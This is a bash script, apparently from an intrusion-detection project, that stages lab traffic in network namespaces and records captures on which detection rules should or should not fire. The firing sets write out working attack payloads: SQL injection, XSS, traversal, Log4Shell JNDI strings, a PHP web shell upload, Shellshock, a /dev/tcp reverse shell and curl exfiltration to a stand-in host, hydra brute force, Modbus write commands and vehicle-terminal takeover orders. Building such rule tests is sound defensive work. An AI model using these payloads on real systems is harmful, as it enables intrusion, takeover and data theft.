#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
#
# Records the captures that prove the rules of rules/: for every group one in which each rule
# of the group fires, and one with near misses in which none may. TABLE.tsv says which is
# which. Same means as pcaps/make: real servers and clients in two namespaces.
#
# usage: make.sh [web|scan|auth|dedicated|modbus|jt808]...
HERE=$(cd "$(dirname "$0")" && pwd)
. "$HERE/../../../pcaps/make/lib.sh"
. "$MAKE_DIR/web.sh"
. "$MAKE_DIR/ssh.sh"
SVC="python3 $MAKE_DIR/services.py"
DNS="python3 $MAKE_DIR/dns.py"
MB="python3 $MAKE_DIR/modbus.py"
T808="python3 $MAKE_DIR/jt808.py"
# An NTP version 4 client question: 48 octets.
NTP=$(printf '230006ec%088d' 0)
V=192.0.2.30
A=198.51.100.77

# What a weak or tampered portal has lying about, and harmless pages that resemble it.
web_extras()
{
	local www=$TMP/site/www

	mkdir -p "$www/.git" "$www/list/2026" "$www/clean"
	echo 'ref: refs/heads/main' >"$www/.git/HEAD"
	printf -- '-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n' >"$www/old.txt"
	echo '<html><title>Hacked by nobody</title><h1>index</h1></html>' >"$www/hacked.html"
	{
		cat "$www/index.html"
		echo '<div style="display:none"><a href=http://192.0.2.99/>网上赌场 百家乐</a></div>'
	} >"$www/dark.html"
	echo '<script src=https://192.0.2.99/coinhive.min.js></script>' >"$www/miner.html"

	echo '<h1>网络安全宣传</h1><p>2024年某网站首页曾显示 hacked by ...</p>' >"$www/clean/a.html"
	{
		cat "$www/index.html"
		echo '<div style="display:none" id=menu></div><p>打击网络赌场，防范百家乐诈骗</p>'
	} >"$www/clean/b.html"
	echo '<script src=/js/chart.min.js></script><p>coin</p>' >"$www/clean/c.html"
	printf -- '-----BEGIN CERTIFICATE-----\nMIIDazCCAlOgAwIBAgIUQ\n' >"$www/clean/ca.txt"
	echo 'The uid=1000 field and the gid=1000 field; root: see manual' >"$www/clean/d.txt"
}

web_fires()
{
	local u=http://203.0.113.10

	for q in 'news?id=0%20UNION%20ALL%20SELECT%20name,sql%20FROM%20sqlite_master' \
	    "search?q=a'%20or%20'1'='1" 'news?id=1%20and%20sleep(5)' \
	    "news?id=1%3bwaitfor%20delay%20'0:0:5'--" \
	    'news?id=1%20and%20(select%20count(*)from%20information_schema.tables)' \
	    'news?id=1%20and%20updatexml(1,concat(0x7e,version()),1)' \
	    "news?id=1%20into%20outfile%20'/srv/x.php'" 'news?id=1%3bexec%20xp_cmdshell%20whoami' \
	    'search?q=<script>alert(1)</script>' 'search?q=<img%20src=x%20onerror=alert(1)>' \
	    'search?q=javascript:alert(1)' 'download?file=../../data/etc/passwd' \
	    'static/..%2f..%2fconf/app.yml' 'download?file=..\..\windows\win.ini' \
	    'download?file=/windows/win.ini' 'page?p=php://filter/read=convert.base64-encode' \
	    'ping?host=127.0.0.1%3bid' 'ping?host=1%3bcat%20/none' \
	    'cgi?x=%60wget%20http://192.0.2.99/a.sh%20-O%20a%60' 'x?a=${jndi:ldap://192.0.2.99/a}' \
	    'x?a=${${lower:j}${lower:n}di:ldap://192.0.2.99/a}' \
	    '${(%23_memberAccess[a]).(@java.lang.Runtime@getRuntime())}/index.action' \
	    'index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=phpinfo' \
	    'proxy?url=http://169.254.169.254/latest/' 'proxy?url=gopher://10.20.1.10:6379/_x' \
	    'search?q={{7*7}}' 'go?u=/a%0d%0aSet-Cookie:%20s=1' 'uploads/2026/a.jsp' 'cmd.jsp' \
	    '.git/HEAD' '.env' 'wwwroot.zip' '.svn/entries' 'actuator/heapdump' \
	    'phpmyadmin/index.php' '.ssh/id_rsa' 'phpinfo.php' 'user?name=a&password=secret1' \
	    'list/' 'old.txt' 'hacked.html' 'dark.html' 'miner.html'; do
		web_get $A "$u/$(printf '%s' "$q" | sed 's/ /%20/g')" --compressed
	done
	web_get $A $u/api/q -d 'id=1 union select user,pass from t'
	web_get $A $u/api/note -d 'text=<script>alert(1)</script>'
	web_get $A $u/api/run -d 'host=1;whoami'
	web_get $A $u/ -H 'X-Test: () { :; }; /bin/id'
	web_get $A $u/ -A '${jndi:rmi://192.0.2.99/a}'
	web_get $A $u/ -H 'X-Api: ${${::-j}${::-n}${::-d}i:ldap://192.0.2.99/a}'
	web_get $A $u/api/log -H 'Content-Type: application/json' -d '{"user":"${jndi:dns://a/}"}'
	web_get $A $u/login.action -H 'Content-Type: %{(#a=@ognl.OgnlContext@DEFAULT)}' -d x
	web_get $A $u/api/u -d 'class.module.classLoader.resources.context.parent.x=1'
	printf '\xac\xed\x00\x05sr\x00\x11java.util.HashSet' >"$TMP/ser"
	web_get $A $u/api/obj -H 'Content-Type: application/octet-stream' --data-binary "@$TMP/ser"
	web_get $A $u/api/json -H 'Content-Type: application/json' \
	    -d '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://a/x"}'
	web_get $A $u/ -H "Cookie: rememberMe=$(head -c 384 /dev/urandom | base64 -w0)"
	web_get $A $u/actuator/gateway/routes/x -H 'Content-Type: application/json' -d '{"id":"x"}'
	web_get $A $u/wls-wsat/CoordinatorPortType -H 'Content-Type: text/xml' \
	    -d '<java><class>java.beans.XMLDecoder</class></java>'
	web_get $A $u/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php -d '<?php echo 1;'
	web_get $A $u/api/xml -H 'Content-Type: text/xml' \
	    -d '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hosts">]><a>&x;</a>'
	printf '<?php @eval($_POST["k"]); ?>' >"$TMP/a.php"
	web_get $A $u/upload -F "file=@$TMP/a.php;type=image/png;filename=a.php"
	web_get $A $u/uploads/a.php -A antSword/v2.1 -d 'k=@eval(base64_decode($_POST[z]))&z=cGhw'
	web_get $A $u/x.jsp/ -X PUT -d '<% out.print(1); %>'
}

# The same words in innocent places.
web_quiet()
{
	local u=http://203.0.113.10

	visit $V 203.0.113.10 www.jt.jianghai.example
	visit $V 203.0.113.10 www.jt.jianghai.example https
	for q in 'search?q=european%20union%20members%20select%20committee' \
	    "search?q=O'Reilly%20or%20others" 'search?q=sleep%20(rest)%20time' \
	    'search?q=delay%20waitforecast' 'help/information_schema.html' \
	    'search?q=updatexml%20guide' 'search?q=go%20into%20outfield' 'search?q=scripture' \
	    'search?q=one=1%20a<b' 'search?q=javascript%20course' 'a/../css/site.css' \
	    'download?file=notice.txt' 'search?q=etc/hosts' 'docs/win.ini.html' \
	    'page?p=https.html' 'ping?host=127.0.0.1' 'search?q=id%3bentity' 'search?q=$%7Bname%7D' \
	    'index.php?s=/Index/think/about' 'proxy?url=http://map.jianghai.example/a' \
	    'search?q={{name}}' 'go?u=/a%0d%0a' 'uploads/2026/a.jpg' 'shells.php.html' \
	    'git/HEAD' 'env' 'web/site.css' 'download/report.zip' 'actuator/health' \
	    'news/phpmyadmin-guide' 'keys/id_rsa.pub' 'article/phpinfo-explained' \
	    'user?name=password' 'clean/a.html' 'clean/b.html' 'clean/c.html' 'clean/ca.txt' \
	    'clean/d.txt'; do
		web_get $V "$u/$q" --compressed
	done
	web_get $V $u/api/q -d 'title=labour union&action=select'
	web_get $V $u/api/note -d 'text=description&host=1.2.3.4'
	web_get $V $u/api/json -H 'Content-Type: application/json' -d '{"type":"com.example.A"}'
	web_get $V $u/ -H 'Cookie: rememberMe=1; sid=abcdef'
	web_get $V $u/actuator/gateway/refresh -d x
	web_get $V $u/api/xml -H 'Content-Type: text/xml' -d '<!DOCTYPE a [<!ENTITY x "y">]><a/>'
	printf 'GIF89a just a picture' >"$TMP/a.gif"
	web_get $V $u/upload -F "file=@$TMP/a.gif;type=image/gif;filename=a.php.gif"
	web_get $V $u/files/report.pdf -X PUT -d x
}

make_web()
{
	wire_up 203.0.113.10 "$V $A"
	web_site 203.0.113.10 www.jt.jianghai.example 江海省交通运输厅
	web_extras
	record_start "$HERE/web-fires.pcap"; web_fires; record_stop
	rm -rf "$TMP/site/www/.git"
	record_start "$HERE/web-quiet.pcap"; web_quiet; record_stop
	wire_down
}

make_scan()
{
	local h=203.0.113.10 u=http://203.0.113.10 i

	wire_up $h "$V $A"
	web_site $h www.jt.jianghai.example 江海省交通运输厅
	ssh_server $h
	serve inside 9999 $SVC hangup $h 9999
	serve inside 53 $DNS serve $h jianghai.example=$h www.jt.jianghai.example=$h
	record_start "$HERE/scan-fires.pcap"
	for ua in 'sqlmap/1.7.2#stable (https://sqlmap.org)' 'Mozilla/5.00 (Nikto/2.1.6)' \
	    'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)' \
	    gobuster/3.5 'Mozilla/5.0 (compatible; Nuclei - Open-source project)' \
	    'Mozilla/5.0 zgrab/0.x' python-requests/2.31.0 'Mozilla/5.0 (Hydra)'; do
		web_get $A $u/ -A "$ua"
	done
	web_get $A "$u/nice%20ports%2C/Tri%6Eity.txt%2ebak"
	web_get $A "$u/nmaplowercheck1732262400"
	web_get $A "$u/" -X PROPFIND
	try outside $A nmap -n -Pn -sT -sV -p 9999 $h
	for i in 1 2 3 4; do try outside $A nmap -n -sn -PE --disable-arp-ping -S $A -e gpc0 $h; done
	try outside $A nmap -n -Pn -sU -p 7001-7008 -S $A -e gpc0 $h
	try outside $A nmap -n -Pn -sT -p 22 --script ssh-hostkey $h
	try outside $A $SVC say $A $h 22 '=SSH-2.0-Go\r\n'
	for i in $(seq 24); do web_get $A "$u/missing-$i"; done
	try outside $A $DNS axfr $A $h jianghai.example
	record_stop
	record_start "$HERE/scan-quiet.pcap"
	visit $V $h www.jt.jianghai.example
	web_get $V "$u/a-missing-page"
	web_get $V "$u/ports" -A 'Mozilla/5.0 (X11) hydrant-browser map'
	outside $V $SVC ping $V $h 4 56
	outside $V $DNS ask $V $h www.jt.jianghai.example
	ssh_login $V $h true
	outside $V $SVC udp $V $h 7001 =hello
	web_get $V "$u/" -X OPTIONS
	record_stop
	wire_down
}

make_auth()
{
	local h=203.0.113.10 u=http://203.0.113.10 i

	wire_up $h "$V $A"
	web_site $h www.jt.jianghai.example 江海省交通运输厅
	ssh_server $h
	serve inside 21 $SVC ftp $h
	serve inside 23 $SVC telnet $h
	serve inside 3389 $SVC talk $h 3389 030000130ed000001234000200080002000000
	serve inside 6379 redis-server --bind $h --port 6379 --protected-mode no --save '' \
	    --dir "$TMP"
	seq -f 'word%g' 14 >"$TMP/words"
	record_start "$HERE/auth-fires.pcap"
	for i in $(seq 12); do web_get $A $u/login -d "username=admin&password=w$i"; done
	web_get $A $u/login -d 'username=admin&password=123456'
	web_get $A $u/console/ -u admin:admin
	try outside $A hydra -I -q -t 2 -l keeper -P "$TMP/words" http-get://$h/console/
	try outside $A hydra -I -q -t 4 -l root -P "$TMP/words" ssh://$h
	try outside $A hydra -I -q -t 2 -l keeper -P "$TMP/words" ftp://$h
	for i in 1 2 3; do
		printf 'keeper\r\na\r\nkeeper\r\nb\r\nkeeper\r\nc\r\n' |
		    try outside $A curl -s -m 2 telnet://$h
	done
	for i in 1 2 3 4 5 6 7; do
		outside $A $SVC say $A $h 3389 \
		    0300002702e00000000000436f6f6b69653a206d737473686173683d61646d696e0d0a0d0a
	done
	try outside $A redis-cli -h $h config set dir /tmp
	try outside $A redis-cli -h $h slaveof 192.0.2.30 6380
	try outside $A redis-cli -h $h slaveof no one
	outside $A $SVC udp $A $h 161 302602010104067075626c6963a019020401020304020100020100300b300906052b060102010500
	record_stop
	record_start "$HERE/auth-quiet.pcap"
	for i in 1 2 3; do web_get $V $u/login -d "username=operator&password=Jh-2026-op$i"; done
	web_get $V $u/login -d 'username=operator&password=Jh-2026-ops'
	web_get $V $u/console/ -u keeper:Jh-2026-lock
	ssh_login $V $h true
	outside $V curl -s -o /dev/null ftp://keeper:Jh-2026-lock@$h/lane.cfg
	printf 'keeper\r\nwrong\r\nkeeper\r\nJh-2026-lock\r\nexit\r\n' |
	    try outside $V curl -s -m 2 telnet://$h
	outside $V $SVC say $V $h 3389 \
	    0300002702e00000000000436f6f6b69653a206d737473686173683d61646d696e0d0a0d0a
	try outside $V redis-cli -h $h get dir
	try outside $V redis-cli -h $h config get dir
	outside $V $SVC udp $V $h 161 302702010104074a682d32303236a019020401020304020100020100300b300906052b060102010500
	record_stop
	wire_down
}

make_dedicated()
{
	local c=10.20.1.10 s=10.20.9.12 x=198.51.100.66 i

	wire_up "$c 10.20.1.53 $x 192.0.2.53 192.0.2.54" "$s 10.20.9.13"
	web_site $c settle.toll.jianghai.example 江海省联网收费结算中心
	head -c 4000 /bin/true >"$TMP/site/www/tool"
	printf 'MZ\x90\x00\x03%60sThis program cannot be run in DOS mode.\r\n' >"$TMP/site/www/tool.exe"
	ssh_server $c
	sed 's/^ListenAddress.*/ListenAddress 10.20.1.53:443/' "$TMP/ssh/sshd.conf" >"$TMP/ssh/443"
	serve inside 0 /usr/sbin/sshd -D -e -f "$TMP/ssh/443"
	serve inside 21 $SVC ftp $c
	serve inside 23 $SVC telnet $c
	serve inside 5900 $SVC greet $c 5900 '=RFB 003.008\n' 0101
	serve inside 445 $SVC hangup $c 445
	serve inside 0 $DNS serve 192.0.2.53 a.todesk.com=$x
	serve inside 0 $DNS serve 10.20.1.53 settle.toll.jianghai.example=$c
	serve inside 3333 $SVC talk $x 3333 '={"id":1,"result":{"status":"OK"}}\n'
	serve inside 4444 $SVC talk $x 4444 '=id\n' '=exit\n'
	serve inside 4445 $SVC talk $x 4445 '=dir\n'
	serve inside 389 $SVC talk $x 389 300c02010161070a010004000400
	serve inside 8081 $SVC talk $x 8081 '=HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok'
	serve inside 8443 $SVC hangup $x 8443
	serve inside 6881 $SVC talk $x 6881 \
	    13426974546f7272656e742070726f746f636f6c0000000000100005aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa2d5452343030302d303132333435363738393031
	serve inside 5000 $SVC talk 192.0.2.54 5000 =ok
	serve outside 8088 $SVC talk 10.20.9.13 8088 =ok
	pause 0.5
	record_start "$HERE/dedicated-fires.pcap"
	printf 'keeper\r\nJh-2026-lock\r\nexit\r\n' | try outside $s curl -s -m 2 telnet://$c
	outside $s curl -s -o /dev/null ftp://keeper:Jh-2026-lock@$c/lane.cfg
	web_get $s http://$c/console/ -u keeper:Jh-2026-lock
	web_get $s http://$c/login -d 'username=operator&password=Jh-2026-ops'
	outside $s $SVC say $s $c 5900 '=RFB 003.008\n' 01
	outside $s $SVC say $s $c 445 \
	    0000002fff534d4272000000001843c8000000000000000000000000fffe0000000000000c00024e54204c4d20302e313200
	for v in tls1 tls1_1; do
		outside $s openssl s_client -$v -cipher DEFAULT@SECLEVEL=0 -connect $c:443 \
		    </dev/null >/dev/null 2>&1 || true
	done
	outside $s openssl s_client -servername client.todesk.com -connect $x:8443 \
	    </dev/null >/dev/null 2>&1 || true
	long=0123456789abcdef0123456789abcdef0123456789abcdef
	outside $s $DNS ask $s 192.0.2.53 a.todesk.com x.ngrok.io cam.ddns.net pool.supportxmr.com \
	    a1$long.t.jianghai.example a2$long.t.jianghai.example a3$long.t.jianghai.example \
	    a4$long.t.jianghai.example a5$long.t.jianghai.example a6$long.t.jianghai.example
	outside $s $SVC udp $s 192.0.2.53 123 "$NTP"
	outside $s $SVC ping $s $x 4 600
	inside $x $SVC say $x 10.20.9.13 8088 =hello
	seq -f 'passage %05g' 200 >"$TMP/records.csv"
	outside $s curl -s -m 5 -o /dev/null --data-binary "@$TMP/records.csv" http://$x:8081/in
	( cd / && try outside $s bash -c 'bash --norc -i >& /dev/tcp/198.51.100.66/4444 0>&1' )
	outside $s $SVC say $s $x 4445 '=Microsoft Windows [Version 10.0.19045.3803]\r\n'
	outside $s $SVC say $s $x 389 300c020101600702010304008000
	outside $s $SVC say $s $x 3333 \
	    '={"id":1,"method":"mining.subscribe","params":["cpuminer/2.5.1"]}\n'
	web_get $s http://$c/tool
	web_get $s http://$c/tool.exe
	web_get $s http://$c/ -A 'Mozilla/5.0 (Windows NT; Windows NT 10.0; zh-CN) WindowsPowerShell/5.1.19041.1'
	outside $s $SVC say $s $x 6881 \
	    13426974546f7272656e742070726f746f636f6c0000000000100005aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa2d5452343030302d616263646566676869616b6c
	outside $s ssh -q -F none -i "$TMP/ssh/key" -o StrictHostKeyChecking=no -p 443 \
	    -o UserKnownHostsFile=/dev/null root@10.20.1.53 true >/dev/null
	record_stop
	record_start "$HERE/dedicated-quiet.pcap"
	visit $s $c settle.toll.jianghai.example
	visit $s $c settle.toll.jianghai.example https
	ssh_login $s $c true
	outside $s $DNS ask $s 10.20.1.53 settle.toll.jianghai.example todesk.jianghai.example
	outside $s $SVC ping $s $c 3 600
	outside $s $SVC udp $s 10.20.1.53 123 "$NTP"
	web_get $s http://$c/api/settle -H 'Content-Type: text/csv' --data-binary "@$TMP/records.csv"
	web_get $s http://$c/news?id=1 -A 'PowerBrowser/5'
	record_stop
	# To the outside, but not abroad.
	record_start "$HERE/dedicated-domestic.pcap"
	outside $s $SVC say $s 192.0.2.54 5000 =hello
	record_stop
	wire_down
}

make_modbus()
{
	local p=10.40.1.20 h=10.40.1.5 x=10.40.1.88 e=198.51.100.77

	wire_up "$p 203.0.113.90" "$h $x $e"
	serve inside 502 $MB serve $p
	serve inside 502 $MB serve 203.0.113.90
	pause 0.5
	record_start "$HERE/modbus-fires.pcap"
	outside $x $MB send $x $p 0100000008 050000ff00 050001ff00 050002ff00 050003ff00 050004ff00 \
	    0600640001 0f0000000801ff 10006400020400010002 1600640000ffff \
	    17006400020064000104ffff 0800010000 0800040000 08000a0000 2b0e0100 11 5a0041 \
	    1509060001000000010001 140706000100000001 4100000001 >/dev/null
	outside $x $MB sweep $x $p
	try outside $x curl -s -m 2 http://$p:502/
	outside $e $MB send $e 203.0.113.90 0100000008 >/dev/null
	record_stop
	record_start "$HERE/modbus-quiet.pcap"
	outside $h $MB poll $h $p 4 0.1
	outside $h $MB send $h $p 0600640001 050003ff00 10006400020400010002 0800000000 0300640002 \
	    03ffff0001 >/dev/null
	record_stop
	wire_down
}

make_jt808()
{
	local p=203.0.113.67 g=203.0.113.72 f=198.51.100.77 t=198.51.100.201
	local orders=('control=2;0;CMNET;;;198.51.100.77;9999;;12345;code;1.0;1.0;;60'
	    'control=1;http://198.51.100.77/t808.bin;CMNET' control=3 control=4 control=5 control=6
	    control=7 server=198.51.100.77 firmware=2.0.1 lock=1 listen=13900000009
	    listen-phone=13900000009 recorder=abc record photo live=198.51.100.77 ask-parameters
	    attributes locate track text=详见http://198.51.100.77/ text=恭喜中奖)

	wire_up "$p $g" "$t $f 10.20.9.12"
	serve inside 6207 $T808 serve $p 6207 ask-parameters attributes heartbeat=60 locate \
	    text=前方大雾，请减速慢行
	serve outside 6207 $T808 serve $f 6207 "${orders[@]}"
	serve outside 6208 $T808 serve 10.20.9.12 6208
	pause 0.5
	record_start "$HERE/jt808-fires.pcap"
	inside $g $T808 drive $g $f 6207 13800100009 2013 12 0.3
	outside $f $T808 guess $f $p 6207 14
	outside $f $T808 codes $f $p 6207 13800100001 123456 000000 admin test a1 a2 a3 a4 \
	    "x' or '1'='1" '${jndi:ldap://a/}'
	outside $f $T808 drive $f $p 6207 13800000000 2013 2 0.1
	outside $f $T808 up $f $p 6207 13800100001 \
	    '0801=\x00\x00\x00\x01\x00\x00\x00\x01MZ\x90\x00\x03\x00' \
	    '0900=\xf0${jndi:ldap://198.51.100.77/a}' \
	    "0100=\\x00\\x1f\\x00\\x73JHTRMJH-T808\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0A000001\\x02A1' or 1=1--"
	try outside $f curl -s -m 2 http://$p:6207/
	inside $g $T808 drive $g 10.20.9.12 6208 13800100009 2013 2 0.1
	record_stop
	record_start "$HERE/jt808-quiet.pcap"
	outside $t $T808 drive $t $p 6207 13800100001 2013 8 0.2
	outside $t $T808 drive $t $p 6207 13800100002 2019 8 0.2
	record_stop
	wire_down
}

for group in ${*:-web scan auth dedicated modbus jt808}; do
	echo "$group"
	make_"$group"
done
du -ch "$HERE"/*.pcap | tail -1
